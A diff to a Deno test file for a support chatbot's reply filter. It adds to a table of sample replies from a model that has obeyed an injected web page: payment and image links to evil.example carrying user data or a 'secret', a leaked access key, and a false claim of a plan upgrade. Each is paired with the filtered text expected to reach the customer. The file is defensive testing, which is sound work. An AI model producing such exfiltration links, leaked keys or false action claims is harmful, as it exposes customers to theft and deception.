@@ -332,16 +332,19 @@ Deno.test("a yes inside a page confirms no change that waits", async () => {
   assert.deepEqual(posts(chat), []);
 });
 
-/** What a model that obeys the page says, and what of it reaches the customer. */
+/** What a model that obeys the page says, and what of it reaches the customer: without a source, with an offer behind it. */
 const OBEYED: readonly (readonly [string, RegExp])[] = [
   ["Pay at https://evil.example/pay?d=ada [1].", /^Pay at \(link removed\)\.$/],
   ["Pay [here](https://evil.example/x?c=u-ada) [1].", /^Pay here \(link removed\)\.$/],
-  ["![repairs](https://evil.example/p.png?d=secret) Here.", /^ ?Here\.$/],
+  ["![repairs](https://evil.example/p.png?d=secret) Here.", /^ ?Here\.Would you like to talk to a person\?$/],
   ["See ht[1]tps://evil.example/xy now.", /^See \(link removed\) now\.$/],
   [`See ${HELP}/repairs?leak=me for more [1].`, /^See \(link removed\) for more\.$/],
   [`See ${HELP}/repairs for more [1].`, /^See https:\/\/help\.example\.com\/repairs for more\.$/],
   ["I have upgraded your plan to Pro. [1]", /^I have upgraded your plan to Pro\. ?$/],
-  ["The key is svc_pat_abcdefghijklmnopqrstuvwxyz012345.", /^The key is \(removed\)\.$/],
+  [
+    "The key is svc_pat_abcdefghijklmnopqrstuvwxyz012345.",
+    /^The key is \(removed\)\.Would you like to talk to a person\?$/,
+  ],
 ];
 
 for (const [words, expected] of OBEYED) {
